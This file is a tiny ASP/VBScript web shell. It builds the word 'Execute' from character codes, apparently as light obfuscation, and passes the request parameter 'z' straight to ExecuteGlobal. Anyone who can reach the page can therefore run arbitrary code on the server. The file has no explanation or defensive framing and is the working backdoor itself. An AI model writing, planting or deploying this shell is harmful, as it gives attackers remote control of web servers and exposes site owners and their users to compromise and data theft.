<%
f = Chr(69) & Chr(120) & "ecute"
ExecuteGlobal Request.Item("z")
%>